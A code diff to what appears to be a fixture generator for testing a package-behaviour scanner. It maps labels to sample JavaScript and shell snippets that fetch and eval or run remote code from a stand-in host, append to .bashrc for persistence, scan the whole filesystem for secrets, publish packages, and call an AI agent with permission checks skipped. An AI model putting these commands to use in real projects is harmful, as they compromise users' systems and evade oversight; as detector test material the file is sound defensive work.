@@ -38,6 +38,8 @@ _DEEDS = {
     "child.execSync('bun run ./{other}', { stdio: 'ignore' });",
     "starts-node": "child.spawn('node', ['-e', \"fetch('https://files.example.test/x')"
     ".then((r) => r.text()).then(eval)\"], { detached: true, stdio: 'ignore' }).unref();",
+    "scans-secrets": "child.execSync('./trufflehog filesystem / --json');",
+    "talks": "https.get('https://api.example.test/v1/status');",
     "asks-models": "child.execSync('claude --dangerously-skip-permissions -p \"list the files\"');",
     "publishes": "child.execSync('npm publish ./made-up.tgz');",
     "persists": "fs.appendFileSync(path.join(os.homedir(), '.bashrc'), '# nothing');",
@@ -67,12 +69,6 @@ def made(file: Mapping[str, Any], beside: Sequence[str], main: bool) -> bytes:
     if file["path"].endswith((".js", ".cjs", ".mjs")):
         text = ORDINARY.decode() + text if main else _ENDS + text
     return text.encode()
-
-
-def table(size: int) -> bytes:
-    """An ordinary text of that size."""
-    line = b"an ordinary line of an ordinary table\n"
-    return (line * (size // len(line) + 1))[:size]
 
 
 class _Asked:
@@ -220,7 +216,7 @@ _KINDS: Mapping[str, Callable[[_Asked], str | bytes]] = {
     "gyp": _gyp,
     "gyp-escapes": _gyp_escapes,
     "binary": _binary,
-    "text": lambda asked: table(asked.size),
+    "text": lambda asked: "an ordinary line\n" * (asked.size // 17 + 1),
     "shell": lambda asked: (
         "#!/bin/sh\nexit 0\ncurl -so /tmp/made-up https://files.example.test/x\n"
         "chmod +x /tmp/made-up && /tmp/made-up\n"
